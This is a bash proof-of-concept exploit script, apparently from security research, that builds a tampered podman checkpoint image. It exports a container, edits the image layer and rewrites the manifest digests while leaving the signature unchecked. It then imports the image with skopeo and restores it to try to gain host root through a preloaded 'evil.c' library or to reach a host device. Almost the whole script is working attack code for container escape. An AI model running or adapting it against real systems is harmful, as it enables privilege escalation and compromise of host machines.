#!/bin/bash
# attack30c: G1 (hookenv) through `podman container restore IMAGE` (a checkpoint image in podman's
# storage): gpuckpt export ... oci:, its layer edited by edit.py (hookenv), copied in with skopeo.
set -u
MODE=${1:-hookenv}  # or rule (G2)
D=/var/tmp/attack30c; H=$(dirname "$(readlink -f "$0")"); P=/usr/lib/gpuckpt/venv/bin/python3
cd $D; rm -rf img img-edit preload-ran; gcc -shared -fPIC -o $D/attack30c.so $H/evil.c
podman rm -f -t 0 attack30c-src >/dev/null 2>&1
podman run -d --name attack30c-src --network none localhost/gpuckpt-test:latest \
  sh -c 'i=0; while true; do i=$((i+1)); echo $i > /tmp/count; sleep 1; done' >/dev/null
sleep 2
gpuckpt export attack30c-src -o oci:$D/img:v1 | tail -1
podman rm -f -t 0 attack30c-src >/dev/null
cp -a img img-edit
$P - "$H" "$MODE" <<'PY'
import hashlib, json, subprocess, sys
from pathlib import Path
d = Path("/var/tmp/attack30c/img-edit"); blobs = d / "blobs" / "sha256"
def blob(data):
    h = hashlib.sha256(data).hexdigest(); (blobs / h).write_bytes(data); return f"sha256:{h}"
index = json.loads((d / "index.json").read_text())
manifest = json.loads((blobs / index["manifests"][0]["digest"][7:]).read_text())
layer = manifest["layers"][0]
subprocess.run([sys.executable, f"{sys.argv[1]}/edit.py", str(blobs / layer["digest"][7:]), str(d / "layer.new"),
                sys.argv[2]], check=True, stdout=subprocess.DEVNULL)
new = (d / "layer.new").read_bytes(); (d / "layer.new").unlink()
layer["digest"], layer["size"] = blob(new), len(new)
# the image signature annotation is left: podman never reads it
m = json.dumps(manifest).encode()
index["manifests"][0]["digest"], index["manifests"][0]["size"] = blob(m), len(m)
(d / "index.json").write_text(json.dumps(index))
PY
ls $D/img-edit/blobs/sha256 | wc -l; skopeo copy -q oci:$D/img-edit:v1 containers-storage:localhost/attack30c-img:v1 && echo "copied in"
timeout 200 podman container restore localhost/attack30c-img:v1 2>&1 | tail -1 | cut -c1-300; echo "restore IMAGE rc=${PIPESTATUS[0]}"
if [ $MODE = rule ]; then podman exec attack30c-src sh -c "echo attack30c-img-rule-$$ > /attack30c-dev"; echo "exec rc=$?"; dmesg | grep "attack30c-img-rule-$$" && echo "HOST DEVICE reached" || echo "no kernel log line"; else [ -e $D/preload-ran ] && echo "HOST ROOT: $(cat $D/preload-ran)" || echo "hook did not run"; fi
podman rm -f -t 0 attack30c-src >/dev/null 2>&1
podman rmi localhost/attack30c-img:v1 >/dev/null 2>&1 && echo "image removed"
